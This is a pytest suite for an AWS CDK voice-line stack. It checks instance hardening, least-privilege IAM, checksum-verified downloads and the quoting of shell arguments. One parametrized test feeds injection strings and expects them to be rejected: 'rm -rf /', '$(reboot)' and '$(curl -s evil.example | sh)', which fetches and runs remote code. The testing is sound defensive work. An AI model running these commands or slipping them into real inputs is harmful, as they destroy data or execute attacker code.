"""VoiceStack: one hardened instance, only WebRTC's ports, least privilege, no secrets in sight."""

from __future__ import annotations

import json
import re
import shlex

import pytest

from contracts.voice_host import PUBLIC_PORTS
from tests.infra.conftest import TOKEN, cdk_context, policy_statements, resources, synth, user_data

ASSET_BUCKET = "cdk-hnb659fds-assets-"
# A deployment with every value that reaches the instance's shell set.
EVERY_VALUE = {
    "voice:domain": "voice.batterysmart.example",
    "voice:acme_email": "ops@batterysmart.example",
    "voice:hours": "06:00-23:00 Asia/Kolkata",
    "web:support_phone": "+91 80 4567 8900",
    "voice:silence_timeout_seconds": 45,
    "voice:max_call_minutes": 10,
    "voice:max_calls": 3,
}


def test_instance_requires_imdsv2_encrypts_its_disk_and_has_no_key_pair(voice_template):
    (instance,) = resources(voice_template, "AWS::EC2::Instance").values()
    props = instance["Properties"]
    assert "KeyName" not in props
    assert props["InstanceType"] == "t4g.small"  # arm64: the cheapest that holds 4 calls
    (device,) = props["BlockDeviceMappings"]
    assert device["Ebs"]["Encrypted"] is True and device["Ebs"]["VolumeType"] == "gp3"
    (template,) = resources(voice_template, "AWS::EC2::LaunchTemplate").values()
    metadata = template["Properties"]["LaunchTemplateData"]["MetadataOptions"]
    assert metadata["HttpTokens"] == "required"


def test_network_is_public_only_with_no_nat_and_an_elastic_ip(voice_template):
    voice_template.resource_count_is("AWS::EC2::NatGateway", 0)
    voice_template.resource_count_is("AWS::EC2::EIP", 1)
    voice_template.resource_count_is("AWS::EC2::EIPAssociation", 1)
    voice_template.resource_count_is("AWS::EC2::FlowLog", 1)
    for subnet in resources(voice_template, "AWS::EC2::Subnet").values():
        assert subnet["Properties"]["MapPublicIpOnLaunch"] is True


def test_ingress_is_exactly_the_webrtc_port_plan_and_never_ssh(voice_template):
    (group,) = resources(voice_template, "AWS::EC2::SecurityGroup").values()
    ingress = group["Properties"]["SecurityGroupIngress"]
    opened = {(r["IpProtocol"], r["FromPort"], r["ToPort"]) for r in ingress}
    assert opened == {(p.protocol, p.start, p.end) for p in PUBLIC_PORTS}
    assert all(r["CidrIp"] == "0.0.0.0/0" and r["Description"] for r in ingress)
    assert not any(r["FromPort"] <= 22 <= r["ToPort"] for r in ingress)


def test_instance_role_is_least_privilege(voice_template):
    statements = policy_statements(voice_template, "HostRole")
    by_action = {}
    for s in statements:
        for action in s["Action"] if isinstance(s["Action"], list) else [s["Action"]]:
            by_action.setdefault(action, []).append(s["Resource"])
    assert "bedrock:InvokeModel" in by_action
    assert "inference-profile/apac.anthropic.claude-haiku-4-5-20251001-v1:0" in json.dumps(
        by_action["bedrock:InvokeModel"]
    )
    (parameter,) = by_action["ssm:GetParameter"]
    assert "parameter/battery-smart/voice/web-origin" in json.dumps(parameter)
    assert by_action["s3:PutObject"] and "/recordings/*" in json.dumps(by_action["s3:PutObject"])
    assert "battery-smart-recordings-" in json.dumps(by_action["s3:PutObject"])
    assert set(by_action) >= {
        "sns:Publish",
        "polly:SynthesizeSpeech",
        "transcribe:StartStreamTranscriptionWebSocket",
        "secretsmanager:GetSecretValue",
    }
    wildcard = {a for a, res in by_action.items() if "*" in res}
    assert wildcard <= {
        "polly:SynthesizeSpeech",
        "transcribe:StartStreamTranscription",
        "transcribe:StartStreamTranscriptionWebSocket",
        "cloudwatch:PutMetricData",
    }
    assert not any(a.endswith(":*") or a == "*" for a in by_action)
    assert "s3:DeleteObject" not in by_action and "dynamodb:PutItem" not in by_action


def test_the_role_reads_the_agents_source_object_and_nothing_else_of_the_asset_bucket(
    voice_template,
):
    """`aws s3 cp` of one object needs GetObject on it: no listing of the CDK asset bucket and
    no other stack's assets (the default bootstrap's SSE-KMS uses the AWS managed aws/s3 key,
    which needs no grant for a read through S3)."""
    statements = policy_statements(voice_template, "HostRole")
    on_assets = [s for s in statements if ASSET_BUCKET in json.dumps(s["Resource"])]
    (statement,) = on_assets
    assert statement["Action"] == "s3:GetObject" and "Condition" not in statement
    *_, bucket, key = statement["Resource"]["Fn::Join"][1]
    assert ASSET_BUCKET in json.dumps(bucket)
    assert re.fullmatch(r"/[0-9a-f]{64}\.zip", key), key  # one object, no wildcard
    (instance,) = resources(voice_template, "AWS::EC2::Instance").values()
    parts = instance["Properties"]["UserData"]["Fn::Base64"]["Fn::Join"][1]
    urls = [p["Fn::Sub"] for p in parts if isinstance(p, dict) and "Fn::Sub" in p]
    assert [url for url in urls if url.endswith(key)]  # the very object the boot copies


def test_call_metrics_may_be_published_only_to_the_voice_lines_namespace(voice_template):
    statements = policy_statements(voice_template, "HostRole")
    (metrics,) = [s for s in statements if "cloudwatch:" in json.dumps(s["Action"])]
    assert metrics["Action"] == "cloudwatch:PutMetricData" and metrics["Resource"] == "*"
    assert metrics["Condition"] == {
        "StringEquals": {"cloudwatch:namespace": "BatterySmart/VoiceLine"}
    }


def test_no_secret_in_the_template_or_user_data(voice_template):
    (secret,) = resources(voice_template, "AWS::SecretsManager::Secret").values()
    generate = secret["Properties"]["GenerateSecretString"]
    assert generate["GenerateStringKey"] == "api_secret"
    assert "SecretString" not in secret["Properties"]
    (instance,) = resources(voice_template, "AWS::EC2::Instance").values()
    user_data = json.dumps(instance["Properties"]["UserData"])
    assert "secretsmanager get-secret-value" in user_data
    assert "api_secret" not in user_data and "LIVEKIT_API_SECRET" not in user_data
    assert "docker compose up -d --build" in user_data
    assert "render.py" in user_data and ".sslip.io" not in user_data


def test_user_data_installs_the_arm64_compose_only_if_its_checksum_matches(voice_template):
    script = user_data(voice_template)
    assert "docker-compose-linux-aarch64" in script and "x86_64" not in script
    assert "sha256sum -c" in script
    assert "--certificate 'ip'" in script and "--web-origin-parameter" in script
    assert "mkswap /swapfile" in script


def _downloads(script: str) -> list[tuple[int, str]]:
    """(line, file) of every curl or wget that writes a file."""
    found = []
    for number, line in enumerate(script.splitlines()):
        for tool, arguments in re.findall(r"\b(curl|wget)\b([^;|&)]*)", line):
            flag = {
                "curl": r"(?:-[a-zA-Z]*o|--output)",
                "wget": r"(?:-[a-zA-Z]*O|--output-document)",
            }[tool]
            target = re.search(rf"(?:^|\s){flag}[\s=](\S+)", arguments)
            if tool == "wget" or target or re.search(r"\s-[a-zA-Z]*O\b", arguments):
                found.append((number, target.group(1) if target else "?"))
    return found


@pytest.mark.parametrize("context", [{}, {"voice:instance_type": "t3.medium"}])
def test_every_download_in_the_user_data_is_checked_against_its_sha256(context):
    """A download is used only after `sha256sum -c` of exactly that file. The other curls ask
    the instance metadata service, on the host (no file); the app, the secret and the
    certificates come from this account with the instance role, over TLS."""
    script = user_data(synth(cdk_context(**context), "VoiceStack")[1])
    lines = script.splitlines()
    downloads = _downloads(script)
    assert downloads, "the compose plugin is downloaded"
    for number, target in downloads:
        check = re.fullmatch(r"echo '([0-9a-f]{64})  (\S+)' \| sha256sum -c -", lines[number + 1])
        assert check and check.group(2) == target, lines[number : number + 2]
    other = [line for line in lines if re.search(r"\b(curl|wget)\b", line)]
    assert len(other) == len(downloads) + 2  # the metadata token and the public-ip poll
    assert all("169.254.169.254" in line for line in other if "-o " not in line)


def test_every_argument_of_the_render_command_is_a_single_quoted_word(voice_template):
    for template in (voice_template, synth(cdk_context(**EVERY_VALUE), "VoiceStack")[1]):
        (line,) = [ln for ln in user_data(template).splitlines() if "/render.py " in ln]
        arguments = line.split("/render.py ", 1)[1]
        assert re.fullmatch(r"--[a-z-]+ '[^']*'( --[a-z-]+ '[^']*')*", arguments), arguments
    words = shlex.split(arguments.replace(TOKEN, "TOKEN"))
    given = dict(zip(words[::2], words[1::2], strict=True))
    assert given["--hostname"] == "voice.batterysmart.example"
    assert given["--acme-email"] == "ops@batterysmart.example"
    assert given["--hours"] == "06:00-23:00 Asia/Kolkata"
    assert given["--support-phone"] == "+91 80 4567 8900"
    assert given["--silence-timeout"] == "45" and given["--max-call-seconds"] == "600"
    assert given["--max-calls"] == "3"
    assert given["--public-ip"] == "TOKEN" and given["--state-bucket"] == "TOKEN"


def test_every_deploy_time_value_in_the_user_data_is_inside_single_quotes(voice_template):
    """An address, a bucket name or an ARN is known only at deploy time: each is wrapped in
    quotes as a whole, so what it resolves to is one word wherever it appears."""
    script = user_data(synth(cdk_context(**EVERY_VALUE), "VoiceStack")[1])
    assert script.count(TOKEN) >= 8
    for line in script.splitlines():
        unquoted = line.split("'")[0::2]  # outside single quotes
        assert not any(TOKEN in part for part in unquoted), line


def test_an_x86_instance_gets_the_x86_image_and_compose():
    template = synth(cdk_context(**{"voice:instance_type": "t3.medium"}), "VoiceStack")[1]
    (instance,) = resources(template, "AWS::EC2::Instance").values()
    assert instance["Properties"]["InstanceType"] == "t3.medium"
    user_data = json.dumps(instance["Properties"]["UserData"])
    assert "docker-compose-linux-x86_64" in user_data and "aarch64" not in user_data
    images = json.dumps(template.to_json()["Parameters"])
    assert "x86_64" in images and "arm64" not in images


def test_the_arm64_instance_boots_the_arm64_amazon_linux(voice_template):
    images = json.dumps(voice_template.to_json()["Parameters"])
    assert "al2023-ami-kernel-default-arm64" in images or "arm64" in images


def test_outputs_give_the_web_page_its_runtime_config(voice_template):
    outputs = voice_template.to_json()["Outputs"]
    assert {"ConnectApiUrl", "LiveKitUrl", "Hostname", "InstanceId", "ElasticIp"} <= set(outputs)
    assert "/api/connect" in json.dumps(outputs["ConnectApiUrl"])
    assert "wss://" in json.dumps(outputs["LiveKitUrl"])
    # Without a domain the line is reached at its Elastic IP, with an IP certificate.
    assert outputs["Hostname"]["Value"] == outputs["ElasticIp"]["Value"]
    assert "sslip.io" not in json.dumps(outputs)


def test_the_sslip_fallback_is_named_from_the_ip():
    template = synth(
        cdk_context(**{"voice:certificate": "sslip-zerossl", "voice:acme_email": "ops@x.example"}),
        "VoiceStack",
    )[1]
    assert ".sslip.io" in json.dumps(template.to_json()["Outputs"]["Hostname"])


@pytest.mark.parametrize(
    ("context", "message"),
    [
        ({"voice:certificate": "sslip-zerossl"}, "needs voice:acme_email"),
        ({"voice:certificate": "self-signed"}, "must be one of"),
        ({"voice:hosted_zone_id": "Z123"}, "needs voice:domain"),
        ({"voice:domain": "voice.example.com; rm -rf /"}, "voice:domain"),
        ({"voice:domain": "x.com; rm -rf /"}, "voice:domain 'x.com; rm -rf /' is not a host"),
        ({"voice:domain": "$(reboot).example.com"}, "voice:domain .* is not a host name"),
        (
            {"voice:acme_email": "$(curl -s evil.example | sh)@x.example"},
            "voice:acme_email .* is not an e-mail address",
        ),
        ({"voice:acme_email": "ops@x.example'; reboot; '"}, "voice:acme_email"),
        ({"web:support_phone": "+91 80 `reboot`"}, "web:support_phone .* is not a phone"),
        ({"web:support_phone": "+91 80\nreboot"}, "web:support_phone"),
        (
            {
                "voice:domain": "voice.example.com",
                "voice:hosted_zone_id": "Z123",
                "voice:hosted_zone_name": "example.com|reboot",
            },
            "voice:hosted_zone_name",
        ),
        (
            {
                "voice:domain": "voice.example.com",
                "voice:hosted_zone_id": "Z1; reboot",
                "voice:hosted_zone_name": "example.com",
            },
            "voice:hosted_zone_id",
        ),
        ({"voice:instance_type": "t4g.small;reboot"}, "voice:instance_type"),
        ({"voice:max_calls": "4; reboot"}, "voice:max_calls must be a whole number"),
        ({"voice:max_calls": 0}, "voice:max_calls must be 1 to 50"),
        ({"voice:silence_timeout_seconds": "60 && reboot"}, "voice:silence_timeout_seconds"),
        ({"voice:silence_timeout_seconds": 5}, "voice:silence_timeout_seconds must be 10 to"),
        ({"voice:max_call_minutes": 0}, "voice:max_call_minutes must be 1 to 120"),
        ({"voice:max_call_minutes": True}, "voice:max_call_minutes must be a whole number"),
        (
            {"voice:silence_timeout_seconds": 300, "voice:max_call_minutes": 5},
            "must be shorter than voice:max_call_minutes",
        ),
        (
            {"voice:hours": "06:00-23:00 Asia/Kolkata", "voice:max_call_minutes": 20},
            "would be cut off",
        ),
        ({"voice:hours": "6am-11pm"}, "voice:hours"),
        ({"voice:hours": "06:00-23:00 Mars/Olympus"}, "unknown time zone"),
        ({"voice:hours": "00:00-23:55 Asia/Kolkata"}, "closed at least 30 minutes"),
    ],
)
def test_bad_voice_settings_are_refused_at_synth_with_the_setting_named(context, message):
    with pytest.raises(ValueError, match=message):
        synth(cdk_context(**context), "VoiceStack")


def test_a_domain_of_ones_own_is_used_and_needs_no_dns_zone():
    template = synth(cdk_context(**{"voice:domain": "voice.batterysmart.example"}), "VoiceStack")[1]
    outputs = template.to_json()["Outputs"]
    assert outputs["LiveKitUrl"]["Value"] == "wss://voice.batterysmart.example"
    template.resource_count_is("AWS::Route53::RecordSet", 0)
    assert "--hostname 'voice.batterysmart.example'" in user_data(template)


def test_with_a_route53_zone_the_stack_points_the_domain_at_the_elastic_ip():
    template = synth(
        cdk_context(
            **{
                "voice:domain": "voice.batterysmart.example",
                "voice:hosted_zone_id": "Z0123456789ABCDEFGHIJ",
                "voice:hosted_zone_name": "batterysmart.example",
            }
        ),
        "VoiceStack",
    )[1]
    (record,) = resources(template, "AWS::Route53::RecordSet").values()
    props = record["Properties"]
    assert props["Type"] == "A" and props["HostedZoneId"] == "Z0123456789ABCDEFGHIJ"
    assert props["Name"] == "voice.batterysmart.example."
    assert "Address" in json.dumps(props["ResourceRecords"])  # the Elastic IP's attribute


def test_a_replaced_instance_restores_caddys_certificates_before_it_serves(voice_template):
    """Every code deploy replaces the instance; asking the CA again each time would soon
    reach its limit of certificates for the same name."""
    script = user_data(voice_template)
    restore = script.index("aws s3 sync 's3://")
    assert "/caddy/' /opt/voice/caddy-data/" in script[restore : restore + 200]
    assert "systemctl enable --now caddy-state.timer" in script
    waits = script.index("meta-data/public-ipv4")
    assert restore < waits < script.index("docker compose up -d --build")
    statements = policy_statements(voice_template, "HostRole")
    state = [s for s in statements if "StateBucket" in json.dumps(s["Resource"])]
    assert sorted(json.dumps(s["Action"]) for s in state) == [
        '"s3:ListBucket"',
        '["s3:GetObject", "s3:PutObject"]',
    ]
    listing = next(s for s in state if s["Action"] == "s3:ListBucket")
    assert listing["Condition"] == {"StringLike": {"s3:prefix": ["caddy/*"]}}
    objects = next(s for s in state if s["Action"] != "s3:ListBucket")
    assert "/caddy/*" in json.dumps(objects["Resource"])
